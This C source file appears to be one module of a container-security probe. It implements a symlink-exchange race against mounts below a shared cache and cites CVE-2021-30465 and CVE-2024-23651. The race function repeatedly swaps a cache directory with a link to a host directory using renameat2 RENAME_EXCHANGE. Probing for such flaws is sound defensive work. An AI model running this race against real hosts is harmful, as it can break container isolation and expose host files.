// A race against mounts below a shared cache: CVE-2021-30465, CVE-2024-23651.
#include "probe.h"
#include <stdio.h>
#include <time.h>

// race swaps CACHE/d with a link to a directory of the host until CACHE/stop
// exists, for a limited time. Its arguments are CACHE and the directory.
void race(char **args) {
	char d[256], link[256], stop[256];
	snprintf(d, sizeof d, "%s/d", args[0]);
	snprintf(link, sizeof link, "%s/link", args[0]);
	snprintf(stop, sizeof stop, "%s/stop", args[0]);
	unlink(stop);
	mkdir(d, 0777);
	if (symlink(args[1], link) < 0 && errno != EEXIST)
		outcome(errno, "link");
	printf("! ready\n");
	fflush(stdout);
	for (time_t end = time(NULL) + 20; time(NULL) < end && access(stop, F_OK) < 0;)
		for (int i = 0; i < 1000; i++)
			renameat2(AT_FDCWD, d, AT_FDCWD, link, RENAME_EXCHANGE);
}
